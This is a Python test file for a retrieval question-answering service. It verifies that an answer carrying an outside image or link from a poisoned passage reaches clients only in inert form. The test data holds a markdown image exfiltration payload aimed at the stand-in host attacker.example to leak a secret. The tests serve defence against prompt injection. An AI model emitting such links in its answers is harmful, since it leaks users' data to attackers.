"""An answer that carries an outside image or link (what a poisoned passage asks for) reaches no
client of the service as a live image or link: not in ``/v1/ask`` (its ``answer`` and its
``presentation``), not in the chat completion, streamed or not, and not in the MCP view."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from tests.serve.fakes import fake_engine, write_index_dir
from tests.test_inert_links import targets

from ragsieve.serve.app import ServeSettings, create_app

QUESTION = "leak: What is graphene made of?"
OUTSIDE = "attacker.example"




def _client(tmp_path: Path, **config: Any) -> TestClient:
    engine = fake_engine(write_index_dir(tmp_path / "idx"), **config)
    return TestClient(create_app(engine, ServeSettings()))


def _live(text: str) -> bool:
    """Whether ``text`` holds the outside address in a form a client could fetch or open."""
    return any(OUTSIDE in t for t in targets(text)) or bool(re.search(r"https?://attacker\.example", text))


def test_ask_presents_the_answer_without_outside_images_or_links(tmp_path: Path) -> None:
    with _client(tmp_path) as client:
        body = client.post("/v1/ask", json={"question": QUESTION}).json()
    view = body["presentation"]
    for text in (view["text"], body["answer"], *(s["text"] for s in view["sentences"])):
        assert not _live(text), text
    assert "[image: status]" in view["text"] and "the details (attacker[.]example/…)" in view["text"]
    assert "secret" not in view["text"] and "secret" not in body["answer"]
    assert {x["host"] for x in view["inert_links"]} == {OUTSIDE, "docs.allowed.org"}
    assert "the answer showed an image from an address outside the corpus: attacker.example" in view["notes"]


def test_an_allowed_host_keeps_its_link(tmp_path: Path) -> None:
    with _client(tmp_path, present={"allow_link_hosts": ["docs.allowed.org"]}) as client:
        view = client.post("/v1/ask", json={"question": QUESTION}).json()["presentation"]
    assert "[the docs](https://docs.allowed.org/guide)" in view["text"]
    assert {x["host"] for x in view["inert_links"]} == {OUTSIDE}
    assert not _live(view["text"])


@pytest.mark.parametrize("stream", [False, True])
def test_chat_completion_content_has_no_outside_image_or_link(tmp_path: Path, stream: bool) -> None:
    body = {"model": "ragsieve", "messages": [{"role": "user", "content": QUESTION}], "stream": stream}
    with _client(tmp_path) as client:
        if not stream:
            reply = client.post("/v1/chat/completions", json=body).json()
            content = reply["choices"][0]["message"]["content"]
            trace = reply["ragsieve_trace"]
        else:
            with client.stream("POST", "/v1/chat/completions", json=body) as resp:
                lines = [line for line in resp.iter_lines() if line and line != "data: [DONE]"]
            chunks = [json.loads(line[len("data: "):]) for line in lines]
            content = "".join(c["choices"][0]["delta"].get("content", "") for c in chunks)
            trace = chunks[-1]["ragsieve_trace"]
    assert "Graphene" in content and "[image: status]" in content
    assert not _live(content) and "secret" not in content
    assert not _live(trace["answer"]) and not _live(trace["presentation"]["text"])


def test_the_mcp_answer_shows_the_inert_text(tmp_path: Path) -> None:
    from ragsieve.mcp.server import Tools

    tools = Tools(fake_engine(write_index_dir(tmp_path / "idx")))
    result = tools.ask_result(tools.ask(QUESTION, None, None))
    assert "[image: status]" in result.text and not _live(result.text)
    assert all(not _live(s.text) for s in result.sentences)


def test_a_stream_stops_sending_tokens_at_a_word_that_may_start_a_link() -> None:
    from ragsieve.serve.app import ChatContent

    content = ChatContent()
    tokens = ["It", " is", " blue", " [1].", " ![x](https", "://attacker.example/q?", "s=secret) end", " more "]
    sent = "".join(content.token(t) for t in tokens)
    assert sent == "It is blue [1]." and "!" not in sent
    assert content.rest("It is blue [1]. [image: x] end more") == " [image: x] end more"
    # a bare address is held back from its first letters, not cut after "https"
    bare = ChatContent()
    assert "".join(bare.token(t) for t in ["See", " https", "://attacker.example/x", " now "]) == "See"
    # a word waits for the whitespace that ends it, then goes
    words = ChatContent()
    assert [words.token(t) for t in ["Par", "is", " is ", "big"]] == ["", "", "Paris is", ""]


def test_serve_takes_allow_link_host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.serve.fakes import FakeIndex

    from ragsieve.serve.cli import open_engine
    from ragsieve.serve.engine import Engine

    monkeypatch.setattr(Engine, "_open_index", lambda self: FakeIndex(self.index_dir))
    config = tmp_path / "c.toml"
    config.write_text('[present]\nallow_link_hosts = ["a.example"]\n', encoding="utf-8")
    engine = open_engine(config, write_index_dir(tmp_path / "idx"), None, None, None, None, ["b.example", "a.example"])
    assert engine.allow_link_hosts == ["a.example", "b.example"]  # the config's, then the option's
